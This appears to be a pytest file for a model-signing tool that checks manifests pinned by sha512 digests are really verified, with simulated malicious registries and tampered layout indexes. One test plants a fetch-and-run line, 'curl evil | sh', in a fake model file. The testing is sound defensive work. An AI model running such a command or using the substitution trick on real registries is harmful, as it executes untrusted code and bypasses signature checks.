"""A manifest fetched by digest is the manifest of that digest, whatever its algorithm.

References may pin ``@sha512:<128 hex>`` (the grammar allows it, and a container runtime pulls
and checks by it). guard verified the sha256 of whatever bytes the registry served for such a
reference, never checking them against the sha512 asked for: a registry that answered the
request with a signed manifest had an unsigned one admitted, which the runtime then pulled by
its own (sha512) digest.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from guard.cli import run
from guard.errors import IntegrityError, NotFoundError
from guard.oci.client import RegistryClient
from guard.oci.layout import REF_NAME, LayoutStore
from guard.oci.push import push_model
from guard.oci.reference import parse_reference
from guard.oci.registry import RegistryAccess, RegistryStore
from guard.oci.store import open_store
from guard.oci.types import OCI_MANIFEST
from guard.oci.verify import verify_oci
from guard.signing import KeySigner, KeyVerifier, sign_model
from tests.oci.conftest import make_model
from tests.oci.netservers import Handler, serve

if TYPE_CHECKING:
    import requests

    from guard.testing.registry import RegistryServer

SIGNED = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": {}, "layers": []}).encode()
OTHER = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": {}, "layers": [{}]}).encode()
OTHER_SHA512 = "sha512:" + hashlib.sha512(OTHER).hexdigest()


def _store(netloc: str) -> RegistryStore:
    return RegistryStore(RegistryClient(netloc, RegistryAccess(), loopback=True), "team/model")


def test_a_manifest_fetched_by_sha512_must_hash_to_it() -> None:
    def route(h: Handler) -> None:
        # asked for OTHER by its sha512, the registry serves SIGNED
        sha256 = "sha256:" + hashlib.sha256(SIGNED).hexdigest()
        h.answer(200, SIGNED, {"Content-Type": OCI_MANIFEST, "Docker-Content-Digest": sha256})

    with serve(route) as server, pytest.raises(IntegrityError, match="sha512"):
        _store(server.netloc).fetch_manifest(OTHER_SHA512)


def test_a_manifest_served_for_its_own_sha512_is_accepted() -> None:
    def route(h: Handler) -> None:
        h.answer(200, OTHER, {"Content-Type": OCI_MANIFEST})

    with serve(route) as server:
        fetched = _store(server.netloc).fetch_manifest(OTHER_SHA512)
    assert (
        fetched.body == OTHER and fetched.descriptor.digest == "sha256:" + hashlib.sha256(OTHER).hexdigest()
    )


def test_a_digest_of_an_unknown_algorithm_is_refused() -> None:
    def route(h: Handler) -> None:
        h.answer(200, SIGNED, {"Content-Type": OCI_MANIFEST})

    with serve(route) as server, pytest.raises(IntegrityError, match="md5"):
        _store(server.netloc).fetch_manifest("md5:" + "a" * 32)


@pytest.mark.registry
def test_an_unsigned_model_pinned_by_sha512_is_not_admitted_on_another_manifests_signature(
    registry: RegistryServer,
    repo: str,
    tmp_path: Path,
    keypair: tuple[Path, Path],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    signed_dir = make_model(tmp_path / "signed")
    sign_model(signed_dir, KeySigner.from_file(keypair[0]))
    ref = parse_reference(f"oci://{registry.host}/{repo}:v1")
    store = open_store(ref)
    assert isinstance(store, RegistryStore)
    signature = signed_dir / "model.sig"
    assert (
        run(["push", str(signed_dir), f"oci://{registry.host}/{repo}:v1", "--signature", str(signature)]) == 0
    )
    signed = store.resolve("v1")
    assert verify_oci(ref, KeyVerifier.from_file(keypair[1]), store).mode == "layers"
    evil_dir = make_model(tmp_path / "evil")
    (evil_dir / "inference.py").write_text("import os; os.system('curl evil | sh')\n")
    evil = push_model(store, evil_dir, "v2")
    evil_body = store.fetch_manifest(evil.descriptor.digest).body
    evil_sha512 = "sha512:" + hashlib.sha512(evil_body).hexdigest()
    # the registry (or whatever answers in its name) serves the signed manifest for the pod's
    # sha512 reference; the runtime, which checks sha512, is served the evil one
    real = store.client.request

    def request(method: str, path: str, **kwargs: Any) -> requests.Response:
        return real(method, path.replace(evil_sha512, signed.digest), **kwargs)

    monkeypatch.setattr(store.client, "request", request)
    with pytest.raises(IntegrityError, match="sha512"):
        verify_oci(
            parse_reference(f"oci://{registry.host}/{repo}@{evil_sha512}"),
            KeyVerifier.from_file(keypair[1]),
            store,
        )


def test_a_layout_entry_named_like_a_sha512_digest_does_not_answer_for_it(
    tmp_path: Path, keypair: tuple[Path, Path]
) -> None:
    """A layout (an air-gapped mirror of a registry) resolves a tag by its ref.name annotation,
    which index.json may spell like a digest: ``repo@sha512:<unsigned>`` must not fetch, and be
    verified as, the signed manifest such an entry points to."""
    signed_dir = make_model(tmp_path / "signed")
    sign_model(signed_dir, KeySigner.from_file(keypair[0]))
    layout = tmp_path / "layout"
    signature = signed_dir / "model.sig"
    assert run(["push", str(signed_dir), f"oci-layout:{layout}:v1", "--signature", str(signature)]) == 0
    evil_sha512 = "sha512:" + hashlib.sha512(OTHER).hexdigest()
    index = json.loads((layout / "index.json").read_text())
    entry = dict(next(m for m in index["manifests"] if m.get("annotations", {}).get(REF_NAME) == "v1"))
    entry["annotations"] = {REF_NAME: evil_sha512}
    index["manifests"].append(entry)
    (layout / "index.json").write_text(json.dumps(index))
    store = LayoutStore(layout)
    with pytest.raises(NotFoundError, match="sha512"):
        store.fetch_manifest(evil_sha512)
    with pytest.raises(NotFoundError):
        verify_oci(
            parse_reference(f"oci-layout:{layout}@{evil_sha512}"), KeyVerifier.from_file(keypair[1]), store
        )
